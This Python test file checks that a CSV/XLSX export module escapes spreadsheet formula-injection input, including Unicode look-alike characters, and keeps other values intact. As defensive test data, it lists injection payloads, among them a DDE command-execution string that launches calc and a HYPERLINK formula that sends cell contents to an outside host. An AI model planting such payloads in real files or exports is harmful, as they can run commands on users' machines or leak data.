"""Tables for spreadsheet programs: no cell becomes a formula, and no value changes on the way."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from data.core.spreadsheets import as_csv, as_xlsx, harmless

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
    "﹦1+1",
    "－1＋1",
    "−1+1",
    "％0A",
    "\u3000=1+1",
    "\xa0\xad\u061c=1+1",
    "\x1b\x85\u2028=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_becomes_a_formula(text: str) -> None:
    (row,) = list(csv.reader(io.StringIO(as_csv(["案件"], [[text]]).decode("utf-8-sig"), newline="")))[1:]
    assert row == [f"'{text[0]}'{text[1:]}" if text[0] in "\t\r\n" else f"'{text}"]
    made = as_xlsx("案件", ["案件"], [[text]])
    sheet = zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    cell = openpyxl.load_workbook(io.BytesIO(made)).active["A2"]
    assert cell.data_type == "s"


@pytest.mark.parametrize("name", ["=1+1", "@name"])
def test_headings_are_texts_too(name: str) -> None:
    assert as_csv([name], []).decode("utf-8-sig").startswith("'" + name)
    assert openpyxl.load_workbook(io.BytesIO(as_xlsx("1", [name], []))).active["A1"].data_type == "s"


@pytest.mark.parametrize("value", ["江边路 12 号", "a=b", "330106-07", "", " ", "\u200b", None, -5, -2.5, 0, True, dt.date(2026, 11, 23)])
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert harmless(value) == value  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a\t\u3000＝1+1", "a\t'\u3000＝1+1"),
        ("a\r\n-1+1\n@x", "a\r\n'-1+1\n'@x"),
        ("a;b=1;c", "a;b=1;c"),
        ("a,=1", "a,=1"),  # stands in quotes
    ],
)
def test_nor_does_what_another_program_takes_for_a_cell(text: str, told: str) -> None:
    (row,) = list(csv.reader(io.StringIO(as_csv(["案件"], [[text]]).decode("utf-8-sig"), newline="")))[1:]
    assert row == [told]


def test_a_workbook_keeps_what_was_written() -> None:
    moment = dt.datetime(2026, 11, 23, 8, 30, tzinfo=dt.UTC)
    made = as_xlsx("审计 [1]/*?", ["a", "b", "c", "d"], [["=x", -5, "\x00\x08行", moment], ["长" * 40_000, None, "#N/A", True]])
    sheet = openpyxl.load_workbook(io.BytesIO(made)).active
    assert sheet.title == "审计  1"
    assert [cell.value for cell in sheet[2]] == ["=x", -5, "\ufffd\ufffd行", "2026-11-23 08:30:00+00:00"]
    assert [cell.value for cell in sheet[3]] == ["长" * 32_767, None, "#N/A", True]


def test_a_csv_file_keeps_quotes_and_line_breaks() -> None:
    rows = [['说 "好"', "一行\n两行", "a,b", None]]
    assert list(csv.reader(io.StringIO(as_csv(list("abcd"), rows).decode("utf-8-sig"), newline="")))[1] == [
        '说 "好"',
        "一行\n两行",
        "a,b",
        "",
    ]
